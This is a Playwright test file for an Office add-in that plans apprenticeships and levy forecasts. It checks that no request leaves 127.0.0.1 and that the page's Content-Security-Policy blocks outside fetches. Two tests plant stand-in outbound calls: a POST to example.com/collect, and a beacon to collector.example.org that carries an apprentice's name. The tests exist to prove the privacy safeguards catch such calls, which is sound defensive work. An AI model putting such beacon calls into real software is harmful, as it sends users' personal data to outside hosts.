/**
 * Nothing leaves the workbook: records every request the task pane makes during a full plan run,
 * a district run (the made-up sample district), a register check and a levy forecast, in headless
 * Debian chromium against dist/ served on 127.0.0.1, and fails on any request the add-in sends
 * anywhere else. Microsoft's own Office requests (office.js from appsforoffice.microsoft.com,
 * routed to the copy in node_modules; office.js's telemetry host, aborted since there is no
 * network here) are told apart and reported, not failed: they are office.js's, not the add-in's.
 * Also checks that the page's Content-Security-Policy is enforced: a fetch to another host is
 * refused by the browser before any request is made.
 */
import type { Page, Request } from "playwright-core";
import { browserTestsUnavailable, startHarness, type Harness } from "./harness";

const unavailable = browserTestsUnavailable();
const describeBrowser = unavailable ? describe.skip : describe;
if (unavailable) {
  console.warn(`Network browser tests skipped: ${unavailable}`);
}

const OFFICE_JS_PREFIX = "https://appsforoffice.microsoft.com/lib/1/hosted/";

interface Seen {
  readonly url: string;
  readonly kind:
    | "own origin"
    | "office.js (routed locally)"
    | "Microsoft Office host (office.js's own)"
    | "ADD-IN, OUTSIDE 127.0.0.1"
    | "inline data";
}

describeBrowser("no request leaves 127.0.0.1", () => {
  // Each test has a browser context and a record of its own: none depends on what another did.
  let harness: Harness;
  let seen: Seen[];
  /** Every test's record, for the summary printed at the end. */
  const everyRequest: Seen[] = [];

  function classify(request: Request): Seen {
    const url = request.url();
    if (url.startsWith(`${harness.origin}/`)) return { url, kind: "own origin" };
    if (url.startsWith("data:") || url.startsWith("blob:")) return { url: url.slice(0, 40), kind: "inline data" };
    if (url.startsWith(OFFICE_JS_PREFIX)) return { url, kind: "office.js (routed locally)" };
    // The harness classifies (and aborts) everything else that tried to leave.
    const outside = harness.outside.find((o) => o.url === url);
    if (outside?.origin === "office") return { url, kind: "Microsoft Office host (office.js's own)" };
    return { url, kind: "ADD-IN, OUTSIDE 127.0.0.1" };
  }

  beforeEach(async () => {
    harness = await startHarness();
    seen = [];
    // Every request of every page (and its workers) in the browser context, whatever its fate.
    harness.context.on("request", (request) => seen.push(classify(request)));
  });

  afterEach(async () => {
    await harness?.close();
  });

  afterAll(() => {
    if (everyRequest.length > 0) {
      const counts = new Map<string, number>();
      for (const s of everyRequest) counts.set(s.kind, (counts.get(s.kind) ?? 0) + 1);
      const office = [
        ...new Set(everyRequest.filter((s) => s.kind.startsWith("Microsoft")).map((s) => new URL(s.url).host)),
      ];

      console.log(
        `requests recorded: ${everyRequest.length} (${[...counts].map(([k, n]) => `${k}: ${n}`).join("; ")})` +
          (office.length
            ? `\nMicrosoft Office hosts office.js itself contacted (aborted here): ${office.join(", ")}`
            : ""),
      );
    }
  });

  async function noAddinRequestsLeft(page: Page): Promise<void> {
    // Let late requests (beacons, lazy chunks) start before judging.
    await page.waitForLoadState("networkidle").catch(() => undefined);
    everyRequest.push(...seen);
    expect(seen.filter((s) => s.kind === "ADD-IN, OUTSIDE 127.0.0.1").map((s) => s.url)).toEqual([]);
    expect(harness.outside.filter((o) => o.origin === "addin").map((o) => o.url)).toEqual([]);
  }

  test("a full plan run (every field, both routes) stays on 127.0.0.1", async () => {
    const page = await harness.newPage();
    const plan = page.locator("#panel-plan");
    await plan.getByLabel("Apprentice name").fill("Sam Patel");
    await plan.getByLabel("School", { exact: true }).fill("Oak Primary School");
    await plan.getByLabel("Line manager").fill("Jo Head");
    await plan.getByLabel("Mentor").fill("Ali Khan");
    await plan.getByLabel("Start date").fill("01/09/2020");
    await plan.getByLabel("Age at start").fill("40");
    await plan.getByLabel("Employer pays the apprenticeship levy").check();
    await plan.getByLabel("Levy funds available").fill("10000");
    await plan.getByLabel("Weekly contracted hours").fill("32.5");
    await plan.getByLabel("Working weeks a year").fill("39");
    await plan.getByLabel("Has Level 2 maths evidence").check();
    await plan.getByLabel("Has Level 2 English evidence").check();
    await plan.getByLabel("Application date").fill("01/05/2020");
    await page.getByRole("button", { name: "Create plan" }).click();
    await page.waitForSelector("#panel-plan .preview:not([hidden]) table");
    // The plan was really built (levy payer with £10,000 of funds: 5% of the £8,000 shortfall).
    expect((await plan.locator(".preview").textContent()) ?? "").toContain("£400.00");

    // The NASENCO route with an agreed price, a second plan in the same page.
    await plan.getByLabel("Already holds the NASENCO award").check();
    await plan.getByLabel("Agreed price").fill("12000");
    await page.getByRole("button", { name: "Create plan" }).click();
    await page.waitForSelector("#panel-plan .preview:not([hidden]) table");
    expect(seen.some((s) => s.kind === "own origin" && s.url.endsWith("/taskpane.js"))).toBe(true);
    await noAddinRequestsLeft(page);
  });

  test("a district run on the made-up sample district, and a register check, stay on 127.0.0.1", async () => {
    const page = await harness.newPage();
    await page.getByRole("tab", { name: "District" }).click();
    const district = page.locator("#panel-district");
    await district.getByRole("button", { name: "Use the made-up sample district" }).click();
    await district.getByRole("button", { name: "Build summary" }).click();
    await page.waitForSelector("#panel-district .preview:not([hidden]) table");
    expect((await district.locator(".preview").textContent()) ?? "").toContain("(made up)");

    await page.getByRole("tab", { name: "Register" }).click();
    const register = page.locator("#panel-register");
    await register.getByRole("button", { name: "Use the made-up sample register" }).click();
    await register.getByLabel("Notional SEN budget").fill("67755");
    await register.getByLabel("Pupil mobility").fill("34%");
    await register.getByRole("button", { name: "Work out guide hours" }).click();
    await noAddinRequestsLeft(page);
  });

  test("a levy forecast run (an apprenticeship added, the forecast previewed) stays on 127.0.0.1", async () => {
    const page = await harness.newPage();
    await page.getByRole("tab", { name: "Levy" }).click();
    const levy = page.locator("#panel-levy");
    await levy.getByLabel("Annual pay bill").fill("£4,000,000");
    await levy.getByLabel("Share of the pay bill in England").fill("95%");
    await levy.getByLabel("First month shown").fill("01/08/2026");
    await levy.getByLabel("Levy funds in the account now").fill("4000");
    const add = levy.getByRole("form", { name: "Add an apprenticeship" });
    await add.getByLabel("Apprentice or apprenticeship").fill("SENCO");
    await add.getByLabel("Start date").fill("01/09/2026");
    await add.getByLabel("The SLMDA (Senior Leader, ST0480)").check();
    await add.getByLabel("Agreed price").fill("14000");
    await add.getByLabel("Age at start").fill("21");
    await levy.getByRole("button", { name: "Add apprenticeship" }).click();
    await levy.getByRole("button", { name: "Create forecast" }).click();
    await page.waitForSelector("#panel-levy .preview:not([hidden]) table");
    // The forecast was really built: 95% of £416.67 a month enters the account.
    expect((await levy.locator(".preview").textContent()) ?? "").toContain("£395.83");
    await noAddinRequestsLeft(page);
  });

  test("the page's Content-Security-Policy stops a request to another host before it is sent", async () => {
    const page = await harness.newPage();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      const reported = new Promise<void>((resolve) =>
        document.addEventListener("securitypolicyviolation", (e) => {
          violations.push(e.violatedDirective);
          resolve();
        }),
      );
      let fetched = "sent";
      try {
        await fetch("https://example.com/collect", { method: "POST", body: "x" });
      } catch {
        fetched = "refused";
      }
      // The browser reports the violation in a task of its own: wait for it (at most 5 s).
      await Promise.race([reported, new Promise((resolve) => setTimeout(resolve, 5000))]);
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe("refused");
    expect(outcome.violations).toContain("connect-src");
    // Refused by the policy, not by the harness: no request reached the router.
    expect(harness.outside.filter((o) => o.url.includes("example.com"))).toEqual([]);
  });

  test("the functions page and the help page make no request outside 127.0.0.1 either", async () => {
    for (const path of ["/functions.html", "/help/functions.html"]) {
      const page = await harness.context.newPage();
      await page.goto(`${harness.origin}${path}`);
      await noAddinRequestsLeft(page);
      await page.close();
    }
  });

  test("the recorder itself flags a request to another host (so the checks above can fail)", async () => {
    const page = await harness.newPage();
    const outsideBefore = harness.outside.length;
    // A top-level navigation is not governed by the CSP: it reaches the router, which aborts it.
    await page.goto("https://collector.example.org/beacon?apprentice=Sam").catch(() => undefined);
    const flagged = seen.filter((s) => s.kind === "ADD-IN, OUTSIDE 127.0.0.1");
    expect(flagged.map((s) => s.url)).toEqual(["https://collector.example.org/beacon?apprentice=Sam"]);
    expect(harness.outside.slice(outsideBefore)).toEqual([
      { url: "https://collector.example.org/beacon?apprentice=Sam", origin: "addin" },
    ]);
    // The planted request stays out of the summary: this test's record is not added to it.
  });
});
